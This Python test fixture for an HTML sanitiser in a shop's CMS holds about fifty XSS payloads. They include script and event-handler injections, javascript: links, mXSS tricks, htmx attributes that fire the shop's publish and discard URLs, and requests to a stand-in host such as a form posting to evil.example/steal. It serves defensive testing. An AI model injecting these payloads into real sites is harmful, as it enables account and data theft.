"""Hostile HTML a marketer (or an attacker with a marketer's password) might paste.

Used by the sanitiser's unit tests and by the browser journey that renders all of it at once.
Every payload either calls `alert()` (the browser test fails on any dialog) or makes a request
to EVIL_HOST or to one of the shop's own state-changing URLs (the browser test fails on any
request it did not expect).
"""

EVIL_HOST = "evil.example"

HOSTILE_PAYLOADS = [
    "<script>alert('script')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('split')</script>",
    '"><script>alert("breakout")</script>',
    "<img src=x onerror=alert('onerror')>",
    '<img src="/static/img/favicon.svg" onload="alert(\'onload\')">',
    "<svg onload=alert('svg')><circle r=1 /></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<body onload=alert('body')>",
    "<details open ontoggle=alert('toggle')><summary>x</summary></details>",
    "<input autofocus onfocus=alert('focus')>",
    "<button onclick=alert('click') autofocus>Press</button>",
    "<a href=\"javascript:alert('js-link')\" id=jslink>Click me</a>",
    "<a href=\"JaVaScRiPt:alert('mixed-case')\">Click</a>",
    "<a href=\" &#106;avascript:alert('entity')\">Click</a>",
    "<a href=\"java\tscript:alert('tab')\">Click</a>",
    "<a href=\"vbscript:msgbox('vb')\">Click</a>",
    "<a href=\"data:text/html,<script>alert('data')</script>\">Click</a>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"javascript:alert('embed')\">",
    '<form action="//evil.example/steal"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'refresh\')">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import url(//evil.example/x.css); body { background: url(//evil.example/bg) }</style>",
    '<p style="background:url(//evil.example/inline-style)">styled</p>',
    '<img src="//evil.example/pixel.png">',
    '<img src="/\\evil.example/backslash.png">',
    '<img src="https://evil.example/absolute.png">',
    '<img srcset="//evil.example/srcset.png 1x">',
    '<video poster="//evil.example/poster.png"></video>',
    '<audio src="//evil.example/a.mp3" autoplay></audio>',
    '<svg><use href="//evil.example/sprite.svg#x"></use></svg>',
    '<div hx-get="/homepage/draft/publish/" hx-trigger="load">htmx get</div>',
    '<div hx-post="/homepage/draft/publish/" hx-trigger="load">htmx post</div>',
    '<div data-hx-post="/homepage/draft/discard/" data-hx-trigger="load">data-hx</div>',
    '<div hx-on:htmx:load="alert(\'hx-on\')" hx-get="/" hx-trigger="load">hx-on</div>',
    "<div hx-on::load=\"alert('hx-on-short')\">hx-on short</div>",
    '<div id="status-messages" hx-swap-oob="true">oob</div>',
    '<div hx-vals=\'js:{a: alert("hx-vals")}\' hx-post="/" hx-trigger="load">hx-vals</div>',
    "<template><script>alert('template')</script></template>",
    "<!--<img src=x onerror=alert('comment')>-->",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<a href="/about/" onmouseover="alert(\'hover\')" style="position:fixed;inset:0">cover</a>',
    "<isindex action=javascript:alert('isindex') type=submit>",
    "<xss onpointerenter=alert('custom-element')>custom</xss>",
]

# Things a marketer legitimately writes, which must survive.
BENIGN = [
    ("<p>Hello <strong>world</strong></p>", "<p>Hello <strong>world</strong></p>"),
    ("<h2>Sale</h2><ul><li>One</li></ul>", "<h2>Sale</h2><ul><li>One</li></ul>"),
    (
        '<a href="/catalog/">Shop</a>',
        '<a href="/catalog/" rel="noopener noreferrer">Shop</a>',
    ),
    (
        '<a href="https://example.com/x">Out</a>',
        '<a href="https://example.com/x" rel="noopener noreferrer">Out</a>',
    ),
]
